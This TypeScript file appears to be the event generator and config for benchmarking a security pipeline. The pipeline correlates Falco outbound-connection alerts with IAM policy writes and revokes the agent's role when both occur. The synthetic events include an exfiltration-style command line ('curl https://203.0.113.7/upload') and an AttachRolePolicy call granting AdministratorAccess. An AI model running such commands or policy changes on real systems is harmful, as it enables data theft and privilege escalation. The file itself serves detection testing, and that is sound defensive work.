// The events of the pipeline bench. Round r belongs to agent r % agents and holds three events: a Falco
// alert of the agent's pod (an outbound connection), the agent's role attaching a policy one second later
// (an IAM write: with the alert, one pair), and a read-only S3 call of the same role (noise no rule uses).
// Rounds are 1.2 s apart in event time, so an agent's rounds are 20 minutes apart: more than the window
// (2 m before, 15 m after), so each round makes exactly one correlation. Times end 1 h before the start,
// as CloudTrail arrives late, and within ingest.max_future_skew.

export const agentCount = 1000
export const roundSpacingMs = 1200

export const agentId = (i: number) => `agent-${String(i).padStart(4, '0')}`

/** The config of the measured `nerve run`: the registry of 1,000 agents and one revoking rule. */
export function pipelineConfig() {
  return {
    agents: Array.from({ length: agentCount }, (_, i) => ({
      id: agentId(i),
      match: {
        k8s: [{ namespace: 'agents', pod: `${agentId(i)}-*` }],
        aws: [`arn:aws:iam::123456789012:role/${agentId(i)}`],
      },
    })),
    // Every event through the pipeline, as before the edge budget: the rounds send each agent's alerts
    // faster than 100 of a rule a minute, which would fold.
    ingest: { agent_budget: { alerts_per_rule_per_minute: 1_000_000_000 } },
    correlation: {
      // Each phase of the bench (cold, then warm) is 6.7 hours of event time sent in seconds by 4 clients
      // that drift apart: a grace longer than a phase keeps every event on time however the clients
      // interleave (nothing is late, so each round makes its pair), and the warm phase starts after the
      // cold one is done, past its stream time. So the cold phase's buffered events expire in the warm
      // one, whose figure includes that eviction. The window is the default one.
      window: { before: '2m', after: '15m', grace: '8h' },
      // BENCH_CHECKPOINT_RECORDS=1 saves the correlator's checkpoint after every batch (the old cadence).
      checkpoint: {
        ...(process.env.BENCH_CHECKPOINT_RECORDS && {
          max_records: Number(process.env.BENCH_CHECKPOINT_RECORDS),
        }),
        ...(process.env.BENCH_CHECKPOINT_INTERVAL && { max_interval: process.env.BENCH_CHECKPOINT_INTERVAL }),
      },
      rules: [
        {
          id: 'outbound-then-iam-write',
          edge: { rules: ['*outbound*'] },
          core: { actions: ['iam:Attach*', 'iam:Put*Policy'], read_only: false },
          severity: 80,
          revoke: true,
        },
      ],
    },
    // BENCH_STORE_COMMIT_INTERVAL=0 (ms) commits each batch of correlations as soon as it arrives (the old way).
    ...(process.env.BENCH_STORE_COMMIT_INTERVAL && {
      sinks: { store: { commit_interval: Number(process.env.BENCH_STORE_COMMIT_INTERVAL) } },
    }),
    log: { level: 'warn' },
  }
}

export function falcoAlert(round: number, t0: number): string {
  const agent = agentId(round % agentCount)
  const time = new Date(t0 + round * roundSpacingMs).toISOString()
  return JSON.stringify({
    uuid: `0b6f2a6e-4c1d-4f7e-9a55-${String(round).padStart(12, '0')}`,
    output: `${time} Warning Unexpected outbound connection (connection=10.0.1.23:41234->203.0.113.7:443 pod=${agent}-7f9c)`,
    priority: 'Warning',
    rule: 'Unexpected outbound connection destination',
    time,
    source: 'syscall',
    hostname: 'ip-10-0-1-23.ec2.internal',
    tags: ['network', 'mitre_exfiltration'],
    output_fields: {
      'container.image.repository': 'ghcr.io/acme/worker',
      'fd.name': '10.0.1.23:41234->203.0.113.7:443',
      'k8s.ns.name': 'agents',
      'k8s.pod.name': `${agent}-7f9c`,
      'proc.cmdline': 'curl https://203.0.113.7/upload',
      'proc.pid': 10_000 + round,
    },
  })
}

export function cloudTrailRecord(round: number, t0: number, write: boolean): string {
  const agent = agentId(round % agentCount)
  const time = `${new Date(t0 + round * roundSpacingMs + 1000).toISOString().slice(0, 19)}Z`
  const id = `${write ? 'a' : 'b'}${String(round).padStart(11, '0')}`
  return JSON.stringify({
    eventVersion: '1.08',
    userIdentity: {
      type: 'AssumedRole',
      principalId: `AROAEXAMPLEROLEID:${agent}-session`,
      arn: `arn:aws:sts::123456789012:assumed-role/${agent}/${agent}-session`,
      accountId: '123456789012',
      accessKeyId: 'ASIAEXAMPLEEXAMPLE01',
      sessionContext: {
        sessionIssuer: {
          type: 'Role',
          principalId: 'AROAEXAMPLEROLEID',
          arn: `arn:aws:iam::123456789012:role/${agent}`,
          accountId: '123456789012',
          userName: agent,
        },
        attributes: { creationDate: time, mfaAuthenticated: 'false' },
      },
    },
    eventTime: time,
    eventSource: write ? 'iam.amazonaws.com' : 's3.amazonaws.com',
    eventName: write ? 'AttachRolePolicy' : 'GetObject',
    awsRegion: 'us-east-1',
    sourceIPAddress: '203.0.113.7',
    userAgent: 'aws-cli/2.15.0 Python/3.11.6 Linux/6.1 botocore/2.4.5',
    requestParameters: write
      ? { roleName: agent, policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }
      : { bucketName: 'acme-data', key: `exports/${round}.csv` },
    responseElements: null,
    requestID: `7c1e${id}`,
    eventID: `7f3e2a10-0000-4000-8000-${id}`,
    readOnly: !write,
    eventType: 'AwsApiCall',
    managementEvent: write,
    recipientAccountId: '123456789012',
    eventCategory: 'Management',
  })
}
